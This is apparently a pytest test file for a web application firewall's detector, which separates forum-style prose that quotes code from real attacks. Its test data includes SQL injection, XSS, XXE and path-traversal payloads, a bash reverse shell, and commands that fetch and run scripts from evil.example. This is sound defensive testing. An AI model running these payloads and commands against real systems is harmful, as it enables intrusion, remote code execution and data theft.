"""What a text is as a whole: prose that quotes code, and noise."""

import random
import string

import pytest

from bascule.waf.logic.facts import DECISIVE, facts_of
from bascule.waf.logic.facts.conditions import is_condition
from bascule.waf.logic.facts.context import is_noise, prose_drops
from bascule.waf.logic.facts.players import without_players

STATEMENT = b"SELECT name FROM users WHERE id = 1 UNION SELECT 2"


@pytest.mark.parametrize(
    "text",
    [
        b"Why does this not work: " + STATEMENT,
        b"I don't understand what " + STATEMENT + b" does",
        b"The customers' wish is to see " + STATEMENT,
        b'He said "look" at ' + STATEMENT,
    ],
)
def test_a_sentence_cannot_be_continued_as_sql(text: bytes) -> None:
    assert not [fact for fact in facts_of(text, "body") if fact.startswith("sql.")]


@pytest.mark.parametrize(
    "text",
    [
        b"a nice red shoe' UNION SELECT 1,2 -- ",
        b'a nice red shoe" or 1=1 #',
        b"a nice red shoe') or (1=1",
        b"select a from b where 1=1 union select 2",
        b"red 1 union select 2,3",
    ],
)
def test_a_quote_that_ends_the_string_lets_sql_act(text: bytes) -> None:
    assert [fact for fact in facts_of(text, "query") if fact.startswith("sql.")]


def test_a_sentence_is_no_path_but_may_hold_tags_climbs_and_commands() -> None:
    said = b"I was told by a friend of mine to look into "
    assert facts_of(said + b"/etc/passwd today", "body") == frozenset()
    assert "html.script_tag" in facts_of(said + b"<script>alert(1)</script>", "body")
    assert "shell.runs_command" in facts_of(said + b"x;cat /etc/passwd", "body")
    assert "template.sum" in facts_of(said + b"{{7*7}}", "body")


@pytest.mark.parametrize(
    "text",
    [
        rb"C:\Windows\win.ini holds settings of very old programs.",
        b"/proc/cpuinfo shows 8 cores, but nproc says 4",
        b"Error: ENOENT: no such file or directory, open '/etc/nginx/nginx.conf'",
        b"/home/anna/.config/nvim/init.vim",
        b"LDAP filter (&(objectClass=user)(sAMAccountName=jdoe)) returns nothing",
        b"import os\nimport sys\n\nprint(os.getcwd())",
        b"function(){ return this; }",
        b"jdbc:mysql://db.example:3306/test?useSSL=false",
    ],
)
def test_what_people_paste_does_nothing(text: bytes) -> None:
    assert not facts_of(text, "body") & DECISIVE


@pytest.mark.parametrize(
    ("text", "fact"),
    [
        (b"/etc/passwd", "path.unix_secret"),
        (b"/etc/passwd\0 and some more words", "path.unix_secret"),
        (b"see my file /etc/passwd", "path.unix_secret"),
        (b"file:///etc/passwd? and some more words", "path.file_url"),
        (b"expect://id and some more words", "path.wrapper"),
        (b"phar://uploads/a.jpg/x and some more words", "path.wrapper"),
        (b"LDAP filter x)(objectClass=user)(cn=*", "ldap.leaves_filter"),
        (b"x';import os;y", "code.python_call"),
        (b"function(){ return this.password == 1 }", "nosql.leaves_string"),
        (b"jdbc:mysql://db.example/x?autoDeserialize=true", "code.java_object"),
        (b"en\r\nSet-Cookie: a=b", "http.set_cookie"),
    ],
)
def test_what_acts_is_still_seen(text: bytes, fact: str) -> None:
    assert fact in facts_of(text, "query")


POST = b"Why does this loop not stop at all?\n\nfor f in *.log\ndo\n  cat $f\n  chmod 600 /var/log/$f\ndone\n\nThanks!"


@pytest.mark.parametrize(
    "text",
    [
        POST,
        b'In C:\n\nint main(void) {\n    system("pause");\n}\n\nDoes not work on Linux, why is that so?',
        b"My Dockerfile:\n\nFROM debian\nRUN apt update\nCOPY --from=a /etc/passwd /etc/passwd\n\nThe image is still too large for me.",
    ],
)
def test_code_on_lines_of_its_own_in_a_post_does_nothing(text: bytes) -> None:
    assert not facts_of(text, "body") & DECISIVE
    assert not facts_of(text.replace(b"\n", b"\r\n"), "body") & DECISIVE


def test_posts_are_sent_as_bodies() -> None:
    text = b'In C, the following does not seem to work:\n\nint main(void) {\n    system("pause");\n}\n\nWhy?'
    assert facts_of(text, "query") & DECISIVE


@pytest.mark.parametrize(
    ("text", "fact"),
    [
        (b"x; cat /etc/passwd\n\n" + POST, "shell.runs_command"),
        (b"system('id');\n\n" + POST, "code.php_runs"),
        (POST + b"\n<script>alert(1)</script>", "html.script_tag"),
        (POST + b"' union select password from users -- ", "sql.union_select"),
        (POST + b"{{7*7}}", "template.sum"),
        (
            b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/x">]>\n<a>\none two three four five six seven\n&x;\n</a>'
            + b" " * 9,
            "xml.external_entity",
        ),
        (b"a\nb\nc; cat /etc/passwd", "shell.runs_command"),
        (POST + b"\nx; cat /etc/passwd", "shell.runs_command"),
        (
            b"x\n\nwget http://evil.example/x -O /tmp/x; sh /tmp/x\n# one two three four five six seven eight nine",
            "shell.runs_command",
        ),
        (b"1;\n\nsystem('id');\n// one two three four five six seven eight nine ten eleven twelve", "code.php_runs"),
        (b"a:\n\nsystem('id');\n// one two three four five six seven eight nine ten eleven twelve", "code.php_runs"),
        (POST + b"\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell.reverse_shell"),
        (POST + b"\n$(curl http://evil.example/x.sh|sh)", "shell.substitution"),
    ],
)
def test_a_post_still_acts_from_its_beginning_and_where_it_breaks_out(text: bytes, fact: str) -> None:
    assert fact in facts_of(text, "body")


def test_words_hide_no_command_that_ends_before_them() -> None:
    assert facts_of(b"ls -la shows nothing at all here", "query") == frozenset()
    for end in (b" # ", b"\n"):
        assert facts_of(b"cat /etc/passwd" + end + b"one two three four", "query") & DECISIVE


def test_other_places_than_fields_hold_no_prose() -> None:
    assert prose_drops(b"one two three four five six seven eight nine", "cookie") == ()
    assert prose_drops(b"one two three four five six seven eight nine", "query")


def test_random_characters_are_noise_and_code_is_none() -> None:
    chance = random.Random(4)
    marks = string.ascii_letters + string.digits + string.punctuation
    assert is_noise("".join(chance.choices(marks, k=2000)).encode())
    assert not is_noise(b"if (count > limit) { return this.value + other.value; }\n" * 40)
    assert not is_noise(b"<p>It was the best of times</p>" * 40)
    assert not is_noise(b"(!+[]+!![])" * 40)


@pytest.mark.parametrize(
    "text",
    [
        b"status = 'paid' AND country IN ('DE','AT')",
        b'project = SHOP AND status in (Open, "In Progress") ORDER BY created DESC',
        b'labels.env="prod" and create_time>"2024-01-01"',
        b"(status eq 'open') and id gt 5",
        b"assignee = currentUser() AND resolution is null",
    ],
)
def test_a_whole_condition_asks_for_rows(text: bytes) -> None:
    assert is_condition(text)
    assert not [fact for fact in facts_of(text, "query") if fact.startswith("sql.")]


@pytest.mark.parametrize(
    "text",
    [
        b"name = 'x' or 1=1",
        b"name = name",
        b"name = 'x' or id = sleep(5)",
        b"name = 'x' union select 1",
        b"name = 'x' -- ",
        b"name = 'x'; drop table y",
        b"name = \"x' or '1'='1\"",
        b"5 or name = 'x'",
        b"' or name = 'x",
        b"name in (select 1)",
    ],
)
def test_what_goes_beyond_a_condition_is_none(text: bytes) -> None:
    assert not is_condition(text)


def test_frames_of_players_are_left_out_and_nothing_with_them() -> None:
    frame = b'<p>See</p><iframe width="560" src="https://www.youtube.com/embed/a?b=c" allow="autoplay; fullscreen"></iframe>'
    assert without_players(frame) == b"<p>See</p> "
    for other in (
        frame.replace(b"www.youtube.com", b"www.youtube.com.h.example"),
        frame.replace(b"allow=", b"onload="),
        frame.replace(b"allow=", b"srcdoc="),
        frame.replace(b"autoplay;", b"' onload=alert(1) '"),
        frame.replace(b"https:", b"javascript:"),
    ):
        assert without_players(other) == other


def test_a_stack_trace_is_no_script_but_a_call_is() -> None:
    trace = b"at eval (eval at <anonymous> (https://shop.example/a.js:1:2), <anonymous>:1:1)"
    assert "js.dangerous_call" not in facts_of(trace, "body")
    assert "js.dangerous_call" in facts_of(b"eval(evil)", "body")


@pytest.mark.parametrize(
    "text",
    [
        b'javascript alert("hello") not working',
        b'why does alert("hello") come twice',
        b"the page says confirm('really') there",
    ],
)
def test_words_that_quote_a_call_of_script_do_not_run_it(text: bytes) -> None:
    assert facts_of(text, "query") == frozenset()


@pytest.mark.parametrize(
    "text",
    [
        b'some nice words"-alert(1)-"',
        b'some nice words"\nalert(1)\n"',
        b"some nice words' in alert(1)+'",
        b'some nice words" onfocus=alert(1) x="',
        b'some nice words" title=x onfocus=alert(1) y="',
        b"some nice words' x onmouseover = alert(1) y='",
        b'say "hello" to `+alert(1)+`',
        b"new Error('x', alert(1))",
    ],
)
def test_a_quote_that_script_goes_on_behind_lets_it_act(text: bytes) -> None:
    assert "js.dialog_call" in facts_of(text, "query")


def test_one_character_over_and_over_is_no_attack_in_content() -> None:
    """Whoever measures a server sends it such bodies; addresses and fields of a head have no use for it."""
    run = b"x" * 4000
    assert "http.only_long_run" in facts_of(run, "query")
    assert "http.only_long_run" in facts_of(run, "header")
    assert "http.only_long_run" not in facts_of(run, "body")
